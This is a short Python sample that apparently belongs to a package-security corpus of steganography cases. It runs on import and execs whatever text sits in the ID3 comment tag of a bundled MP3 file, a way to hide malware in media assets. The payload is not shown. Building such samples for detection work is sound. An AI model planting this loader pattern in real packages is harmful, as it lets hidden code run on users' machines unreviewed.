# pkgguard corpus 438 (steganography), modelled on [telnyx]; inert, never run.
import os

from mutagen.id3 import ID3

_tags = ID3(os.path.join(os.path.dirname(__file__), "assets", "chime.mp3"))
_notes = _tags.getall("COMM")
if _notes:
    exec(_notes[0].text[0])
